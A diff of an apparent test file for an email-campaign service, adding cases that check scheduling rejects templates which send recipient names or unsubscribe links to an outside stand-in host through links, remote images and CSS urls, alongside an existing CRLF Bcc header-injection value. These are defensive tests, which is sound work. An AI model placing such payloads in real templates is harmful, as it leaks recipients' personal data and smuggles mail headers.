@@ -111,10 +111,38 @@ describeOnEachDatabase('MARKETING never learns an address', (gateway) => {
     ['an unclosed placeholder', { text: 'Hi {{firstName' }, ['input', 'text']],
     ['a placeholder in the subject', { subject: 'Hi {{firstName}}' }, ['input', 'subject']],
     ['a header smuggled into the subject', { subject: 'Hi\r\nBcc: all@example.vn' }, ['input', 'subject']],
+    [
+      'the name glued into a link of the text',
+      { text: 'See https://elsewhere.example/?n={{fullName}}' },
+      ['input', 'text'],
+    ],
+    [
+      'the name in a remote image',
+      { html: '<img src="https://elsewhere.example/p?n={{firstName}}">' },
+      ['input', 'html'],
+    ],
+    [
+      'the link carried to another site',
+      { html: '<a href="https://elsewhere.example/?u={{unsubscribeUrl}}">x</a>' },
+      ['input', 'html'],
+    ],
+    [
+      'the name in a style rule',
+      { html: '<style>p{background:url(//elsewhere.example/{{fullName}})}</style>' },
+      ['input', 'html'],
+    ],
   ])('scheduling refuses %s with BAD_USER_INPUT and writes nothing', async (_label, overrides, path) => {
     const before = await gateway().database.dataSource.query('SELECT count(*)::int AS n FROM campaigns');
     expectBadInput(await gateway().query(MARKETING, SCHEDULE_CAMPAIGN, { input: newCampaign(overrides) }), path);
     expect(await gateway().database.dataSource.query('SELECT count(*)::int AS n FROM campaigns')).toEqual(before);
+  });
+
+  test('placeholders standing as words, and the unsubscribe link as a link target, are accepted', async () => {
+    const input = newCampaign({
+      text: 'Chào {{firstName}}, ({{fullName}})! Ngừng nhận: {{unsubscribeUrl}}',
+      html: '<p>Chào <b>{{firstName}}</b>!</p><a href="{{unsubscribeUrl}}">Ngừng nhận</a>',
+    });
+    expect((await gateway().query(MARKETING, SCHEDULE_CAMPAIGN, { input })).errors).toBeUndefined();
   });
 
   test('a name that looks like markup or a placeholder is escaped in HTML and never expanded', async () => {
